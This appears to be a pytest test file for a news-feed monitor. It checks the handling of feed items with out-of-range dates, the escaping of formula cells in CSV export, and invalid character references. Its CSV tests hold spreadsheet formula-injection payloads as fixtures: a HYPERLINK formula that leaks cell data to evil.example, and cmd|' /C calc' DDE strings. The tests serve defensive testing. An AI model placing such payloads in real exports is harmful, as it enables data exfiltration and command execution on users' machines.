"""Hostile feeds through the real core: a bad date costs one field, a formula stays text.

Each test serves feeds from a real HTTP server on 127.0.0.1 and runs a whole update into a
real store; the CSV test then exports that store as ``export --format csv`` does.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from monitor import Monitor, export, open_monitor
from monitor.collect.feeds import parse_feed
from monitor.collect.fetch import FetchSettings
from monitor.export import FIELDS
from tests.support.http_server import LocalServer, Route
from tests.support.inside import parts

FAST = FetchSettings(connect_timeout=2, read_timeout=2, total_timeout=5, min_host_interval=0)
GOOD_DATE = datetime(2026, 11, 20, 7, 15, tzinfo=UTC)
# Both are valid ISO 8601, but in UTC they fall in the years 0 and 10000.
BAD_DATES = ("0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00")
BAD_RFC822 = "Fri, 31 Dec 9999 23:59:59 -1400"


@pytest.fixture
def monitor(tmp_path: Path) -> Iterator[Monitor]:
    with open_monitor(tmp_path / "data", fetch_settings=FAST) as opened:
        yield opened


def collect(monitor: Monitor, server: LocalServer, path: str, body: str, kind: str) -> None:
    """Serve ``body`` at ``path``, follow it and run one update, which must read it."""
    url = server.add(path, Route(body.encode(), headers={"Content-Type": kind}))
    source = monitor.add_source(url).source  # named by the feed's own title
    report = {r.source_id: r for r in monitor.update([source.id]).reports}[source.id]
    assert report.error is None


def dates_by_title(monitor: Monitor) -> dict[str, datetime | None]:
    return {article.title: article.published for article in monitor.articles()}


def rss(items: list[tuple[str, str]]) -> str:
    entries = "".join(
        f"<item><title>{title}</title><guid>rss-{title}</guid>"
        f"<description>Текст: {title}.</description><pubDate>{date}</pubDate></item>"
        for title, date in items
    )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>RSS</title>'
        f"<language>ru</language>{entries}</channel></rss>"
    )


def test_rss_items_with_out_of_range_dates_are_kept_undated(
    monitor: Monitor, server: LocalServer
) -> None:
    good = "Fri, 20 Nov 2026 10:15:00 +0300"
    items = [("Первая", good), ("Год ноль", BAD_DATES[0]), ("Год 10000", BAD_DATES[1])]
    items += [("Год 10000 по RFC 822", BAD_RFC822), ("Последняя", good)]
    collect(monitor, server, "/rss.xml", rss(items), "application/rss+xml")
    assert dates_by_title(monitor) == {
        "Первая": GOOD_DATE,
        "Год ноль": None,
        "Год 10000": None,
        "Год 10000 по RFC 822": None,
        "Последняя": GOOD_DATE,
    }


def test_atom_entries_fall_back_to_their_other_date_or_none(
    monitor: Monitor, server: LocalServer
) -> None:
    good = "2026-11-20T10:15:00+03:00"

    def entry(title: str, published: str, updated: str) -> str:
        return (
            f"<entry><title>{title}</title><id>urn:atom:{title}</id>"
            f"<summary>Текст: {title}.</summary><published>{published}</published>"
            f"<updated>{updated}</updated></entry>"
        )

    body = (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"'
        ' xml:lang="ru"><title>Atom</title><id>urn:atom</id><updated>2026-11-20T10:15:00Z'
        f"</updated>{entry('Первая', good, good)}"
        f"{entry('Только обновлена', BAD_DATES[0], good)}"
        f"{entry('Без даты', BAD_DATES[1], BAD_DATES[0])}"
        f"{entry('Последняя', good, good)}</feed>"
    )
    collect(monitor, server, "/atom.xml", body, "application/atom+xml")
    assert dates_by_title(monitor) == {
        "Первая": GOOD_DATE,
        "Только обновлена": GOOD_DATE,
        "Без даты": None,
        "Последняя": GOOD_DATE,
    }


def test_json_feed_items_with_out_of_range_dates_are_kept_undated(
    monitor: Monitor, server: LocalServer
) -> None:
    def item(title: str, date: str) -> dict[str, str]:
        return {"id": f"json-{title}", "title": title, "content_text": f"Текст: {title}.",
                "date_published": date}  # fmt: skip

    document = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "JSON",
        "language": "ru",
        "items": [
            item("Первая", "2026-11-20T10:15:00+03:00"),
            item("Год ноль", BAD_DATES[0]),
            item("Год 10000", BAD_DATES[1]),
            item("Последняя", "2026-11-20T07:15:00Z"),
        ],
    }
    collect(monitor, server, "/feed.json", json.dumps(document), "application/feed+json")
    assert dates_by_title(monitor) == {
        "Первая": GOOD_DATE,
        "Год ноль": None,
        "Год 10000": None,
        "Последняя": GOOD_DATE,
    }


# --- CSV: formula-leading cells are neutralised, in every column ---

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+7 (495) 123-45-67",
    "-2+3+cmd|' /C calc'!A0",
]


def test_csv_export_neutralises_formula_cells_in_every_column(
    monitor: Monitor, server: LocalServer, tmp_path: Path
) -> None:
    items = "".join(
        f"<item><title>{formula.replace('&', '&amp;')}</title><guid>f{number}</guid>"
        f"<author>{formula.replace('&', '&amp;')}</author>"
        f"<description>{formula.replace('&', '&amp;')}</description>"
        "<pubDate>Fri, 20 Nov 2026 10:15:00 +0300</pubDate></item>"
        for number, formula in enumerate(FORMULAS)
    )
    body = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>=cmd|' /C calc'!A0</title><language>ru</language>{items}</channel></rss>"
    )
    collect(monitor, server, "/formulas.xml", body, "application/rss+xml")
    stored = {article.title for article in monitor.articles()}
    assert stored == set(FORMULAS)  # the store keeps the text as the outlet sent it

    out = tmp_path / "out.csv"
    assert monitor.export_articles(None, out, "csv") == len(FORMULAS)
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == FIELDS
    assert {row["title"] for row in rows} == {f"'{formula}" for formula in FORMULAS}
    assert {row["original_text"] for row in rows} == {f"'{formula}" for formula in FORMULAS}
    for row in rows:
        assert row["author"] == f"'{row['title'][1:]}"
        assert row["outlet"] == "'=cmd|' /C calc'!A0"
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert row["published"] == "2026-11-20T07:15:00+00:00"  # ordinary cells unchanged


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_csv_export_neutralises_each_formula_lead(
    monitor: Monitor, server: LocalServer, tmp_path: Path, lead: str
) -> None:
    title = f"{lead}1+1 неделя"
    body = rss([("x", "Fri, 20 Nov 2026 10:15:00 +0300")])
    body = body.replace("<title>x</title>", f"<title>&#{ord(lead)};1+1 неделя</title>")
    collect(monitor, server, "/lead.xml", body, "application/rss+xml")
    out = tmp_path / "out.csv"
    monitor.export_articles(None, out, "csv")
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert [row["title"] for row in rows] == [f"'{title}"]


def test_csv_neutralises_a_leading_tab_or_carriage_return(
    monitor: Monitor, server: LocalServer
) -> None:
    """Feed text is trimmed on the way in, so a stored article is given such a title here."""
    collect(monitor, server, "/tab.xml", rss([("x", "Fri, 20 Nov 2026 10:15:00 +0300")]),
            "application/rss+xml")  # fmt: skip
    (item,) = export.collect(parts(monitor))
    leads = ["\t=1+1", "\r=1+1", "\t\r"]
    articles = [
        export.ExportedArticle(dataclasses.replace(item.article, title=lead), item.stored)
        for lead in leads
    ]
    rows = list(csv.DictReader(io.StringIO(export.to_csv(articles).decode("utf-8-sig"))))
    assert [row["title"] for row in rows] == [f"'{lead}" for lead in leads]


@pytest.mark.parametrize("reference", ["&#99999999999;", "&#x110000;", "&#xD800;", "&#0;"])
def test_a_character_reference_to_no_character_costs_that_character(reference: str) -> None:
    feed = (
        '<rss version="2.0"><channel><title>News</title>'
        f"<item><title>Bad {reference} title</title><link>http://news.test/1</link></item>"
        "<item><title>Good</title><link>http://news.test/2</link></item>"
        "</channel></rss>"
    ).encode()
    items = parse_feed(feed, url="http://news.test/rss").items
    assert [item.title for item in items] == ["Bad \ufffd title", "Good"]
